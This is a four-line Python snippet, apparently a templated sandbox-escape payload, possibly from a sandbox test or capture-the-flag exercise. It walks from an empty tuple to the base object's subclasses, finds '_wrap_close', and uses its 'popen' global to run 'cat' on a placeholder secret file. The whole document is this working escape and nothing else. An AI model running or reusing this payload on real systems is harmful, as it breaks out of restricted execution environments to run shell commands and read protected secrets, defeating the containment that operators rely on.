"""From an empty tuple to all classes there are."""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        print(cls.__init__.__globals__["popen"]("cat @SECRET_FILE@").read())
